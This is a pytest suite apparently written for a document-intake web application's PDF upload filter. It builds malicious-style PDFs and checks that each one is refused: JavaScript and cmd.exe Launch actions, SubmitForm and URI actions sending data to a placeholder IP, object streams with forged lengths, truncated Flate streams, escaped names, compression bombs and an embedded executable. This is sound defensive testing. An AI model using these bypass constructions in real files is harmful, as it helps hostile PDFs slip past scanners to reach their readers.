"""The PDF active-content filter on qpdf (issue 13 §3): each bypass of the attack campaign is
crafted here so it stays refused, and real PDFs (the project's own, a scanned page) stay accepted."""

from __future__ import annotations

import io
import re
import zlib
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import ValidationError

from shoulian.intake import uploads
from shoulian.intake.tests.helpers import register, sample_pdf, upload

pytestmark = pytest.mark.django_db


def refused(data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        uploads.inspect_upload(upload("doc.pdf", data))
    return caught.value


def accepted(data: bytes) -> None:
    assert uploads.inspect_upload(upload("doc.pdf", data)).mime == "application/pdf"


def save(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def one_page(**catalog: Any) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    for key, value in catalog.items():
        pdf.Root[key] = value
    return pdf


def put(obj: Any, **fields: Any) -> Any:
    for key, value in fields.items():
        obj[f"/{key}"] = value
    return obj


def action(kind: str, **fields: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **fields)


# --- Valid PDFs stay accepted -------------------------------------------------------------------
def test_reportlab_pdf_and_the_desks_own_receipt_are_accepted(clerk: Any) -> None:
    from shoulian.intake.services.receipts import receipt_print

    accepted(sample_pdf())
    alert = register(clerk).alert
    accepted(receipt_print(actor=clerk, alert=alert))


def test_demo_transcript_with_an_embedded_chinese_font_is_accepted() -> None:
    from shoulian.intake.demo import _transcript_pdf

    accepted(_transcript_pdf("JQ001", "张三", "我的电动车在小区楼下被偷了，价值三千元。" * 3))


def test_scanned_image_pdf_is_accepted() -> None:
    from PIL import Image

    # A scanner's PDF: one JPEG per page (Pillow writes it as a DCT image XObject).
    noise = Image.effect_noise((600, 800), 80).convert("RGB")
    out = io.BytesIO()
    noise.save(out, format="PDF", resolution=150)
    accepted(out.getvalue())


def test_script_like_bytes_in_compressed_image_and_page_data_are_not_actions() -> None:
    """Pixels and drawing operators are arbitrary bytes: "/JS" in them is no name to a reader."""
    pdf = one_page()
    pixels = b"\x00/JS (x)/JavaScript /Launch\x00" * 400
    image = pikepdf.Stream(pdf, zlib.compress(pixels))
    put(
        image,
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=100,
        Height=len(pixels) // 300,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pikepdf.Name.FlateDecode,
    )
    page = pdf.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im1=pdf.make_indirect(image)))
    page.Contents = pdf.make_stream(
        b"q 100 0 0 100 0 0 cm /Im1 Do Q BT /F1 12 Tf (/JavaScript /Launch) Tj ET"
    )
    accepted(save(pdf, compress_streams=True, object_stream_mode=pikepdf.ObjectStreamMode.generate))


def test_open_action_jumping_inside_the_document_and_a_link_to_click_are_accepted() -> None:
    pdf = one_page()
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = action("GoTo", D=pikepdf.Array([page, pikepdf.Name.Fit]))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 50, 50],
        A=action("URI", URI=pikepdf.String("https://www.gov.cn/")),
    )
    page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    accepted(save(pdf))
    # A bare destination array as /OpenAction is a jump too.
    pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
    accepted(save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate))


# --- Object streams with a wrong /Length (the bypass) -------------------------------------------
def _script_in_object_stream() -> bytes:
    pdf = one_page()
    script = action("JavaScript", JS=pikepdf.String("app.alert(1)"))
    # Keep the script out of the catalog's direct dictionary so it lives in the object stream.
    pdf.Root.OpenAction = pdf.make_indirect(script)
    return save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def _with_objstm_length(data: bytes, length: bytes) -> bytes:
    match = re.search(rb"/Length (\d+)((?:(?!>>).)*?)/Type /ObjStm", data, re.S)
    if match is None:  # key order varies: find the dictionary that names /ObjStm
        start = data.index(b"/ObjStm")
        head = data.rfind(b"<<", 0, start)
        tail = data.index(b">>", start)
        dictionary = data[head:tail]
        new = re.sub(rb"/Length \d+", b"/Length " + length, dictionary)
        return data[:head] + new + data[tail:]
    return data[: match.start(1)] + length + data[match.end(1) :]


@pytest.mark.parametrize("length", [b"0", b"3", b"7"])
def test_object_stream_with_a_wrong_direct_length_is_refused(length: bytes) -> None:
    data = _script_in_object_stream()
    assert b"/ObjStm" in data and b"JavaScript" not in data  # the script is compressed
    error = refused(_with_objstm_length(data, length))
    assert error.code in {"pdf_invalid", "pdf_active_content"}


def test_object_stream_with_a_wrong_indirect_length_is_refused() -> None:
    data = _script_in_object_stream()
    start = data.index(b"/ObjStm")
    head = data.rfind(b"<<", 0, start)
    tail = data.index(b">>", start)
    dictionary = re.sub(rb"/Length \d+", b"/Length 999 0 R", data[head:tail])
    forged = data[:head] + dictionary + data[tail:]
    # Object 999 is not there, or holds a wrong number: readers repair, we refuse.
    forged = forged.replace(b"%%EOF", b"999 0 obj\n3\nendobj\n%%EOF", 1)
    refused(forged)


def test_script_in_an_object_stream_with_a_correct_length_is_refused() -> None:
    assert "脚本" in refused(_script_in_object_stream()).messages[0]


def test_truncated_zlib_stream_is_an_error_not_nothing() -> None:
    """A Flate stream cut short inflates to "something" for qpdf and nothing for zlib's strict
    mode: both readings are refused; the stream must inflate to its end."""
    hidden = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")[:-8]
    pdf = one_page()
    stream = pikepdf.Stream(pdf, hidden)
    put(stream, Filter=pikepdf.Name.FlateDecode)
    pdf.Root.Extra = pdf.make_indirect(stream)
    error = refused(save(pdf, compress_streams=False))
    assert error.code in {"pdf_invalid", "pdf_active_content"}
    # A content stream cut short is refused the same way.
    pdf = one_page()
    pdf.pages[0].Contents = pdf.make_indirect(pikepdf.Stream(pdf, zlib.compress(b"q Q " * 50)[:-5]))
    pdf.pages[0].Contents.Filter = pikepdf.Name.FlateDecode
    assert refused(save(pdf, compress_streams=False)).code == "pdf_invalid"


def test_object_stream_missing_from_the_cross_reference_is_still_searched() -> None:
    """An object stream no cross-reference entry points to is invisible to qpdf's object list,
    yet a reader that rebuilds the table finds the objects in it: its inflated bytes are
    searched."""
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    pdf = one_page()
    objstm = pikepdf.Stream(pdf, zlib.compress(b"9 0 " + inner))
    put(objstm, Type=pikepdf.Name.ObjStm, N=1, First=4, Filter=pikepdf.Name.FlateDecode)
    pdf.Root.Stash = pdf.make_indirect(objstm)
    assert "JavaScript" in refused(save(pdf, compress_streams=False)).messages[0]


def test_compression_bomb_is_refused_not_inflated(settings: Any, monkeypatch: Any) -> None:
    from shoulian.intake import pdfscan

    monkeypatch.setattr(pdfscan, "INFLATE_BUDGET", 1024 * 1024)
    pdf = one_page()
    stream = pikepdf.Stream(pdf, zlib.compress(b"\x00" * (4 * 1024 * 1024), 9))
    put(stream, Filter=pikepdf.Name.FlateDecode)
    pdf.Root.Extra = pdf.make_indirect(stream)
    assert refused(save(pdf, compress_streams=False)).code == "pdf_too_complex"


# --- Actions that fire by themselves ------------------------------------------------------------
@pytest.mark.parametrize(
    ("kind", "fields", "shown"),
    [
        ("URI", {"URI": pikepdf.String("http://203.0.113.9/track")}, "URI"),
        ("SubmitForm", {"F": pikepdf.String("http://203.0.113.9/collect")}, "SubmitForm"),
        ("GoToR", {"F": pikepdf.String(r"\\203.0.113.9\share\x.pdf"), "D": [0]}, "GoToR"),
        ("Launch", {"F": pikepdf.String("cmd.exe")}, "Launch"),
        ("JavaScript", {"JS": pikepdf.String("app.alert(1)")}, "脚本"),
        ("ImportData", {"F": pikepdf.String("data.fdf")}, "ImportData"),
    ],
)
@pytest.mark.parametrize("where", ["open_action", "page_aa", "annotation_aa", "next_chain"])
def test_auto_firing_action_other_than_goto_is_refused(
    kind: str, fields: dict[str, Any], shown: str, where: str
) -> None:
    pdf = one_page()
    page = pdf.pages[0].obj
    bad = action(kind, **fields)
    if where == "open_action":
        pdf.Root.OpenAction = pdf.make_indirect(bad)
    elif where == "page_aa":
        page.AA = pikepdf.Dictionary(O=bad)
    elif where == "annotation_aa":
        widget = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            Rect=[0, 0, 10, 10],
            AA=pikepdf.Dictionary(PO=bad),
        )
        page.Annots = pikepdf.Array([pdf.make_indirect(widget)])
    else:
        pdf.Root.OpenAction = action(
            "GoTo", D=pikepdf.Array([page, pikepdf.Name.Fit]), Next=pdf.make_indirect(bad)
        )
    for mode in (pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate):
        message = refused(save(pdf, object_stream_mode=mode)).messages[0]
        assert shown in message


def test_escaped_names_are_read_as_a_reader_reads_them() -> None:
    pdf = one_page()
    data = save(pdf, compress_streams=False)
    # "/J#61vaScript" in a dictionary: a plain name to every reader.
    data = data.replace(b"/Type /Catalog", b"/Type /Catalog /AA << /WC << /S /J#61vaScript >> >>")
    assert "JavaScript" in refused(data).messages[0]


def test_encrypted_pdf_is_refused() -> None:
    data = save(one_page(), encryption=pikepdf.Encryption(owner="o", user="", R=6))
    assert "加密" in refused(data).messages[0]
    data = save(one_page(), encryption=pikepdf.Encryption(owner="o", user="u", R=6))
    assert "加密" in refused(data).messages[0]


def test_embedded_file_is_refused() -> None:
    pdf = one_page()
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ payload", filename="a.exe")
    pdf.attachments["a.exe"] = spec
    assert "内嵌" in refused(save(pdf)).messages[0]


def test_garbage_after_the_header_is_invalid() -> None:
    assert refused(b"%PDF-1.7\n" + b"\x00\xff" * 500).code == "pdf_invalid"
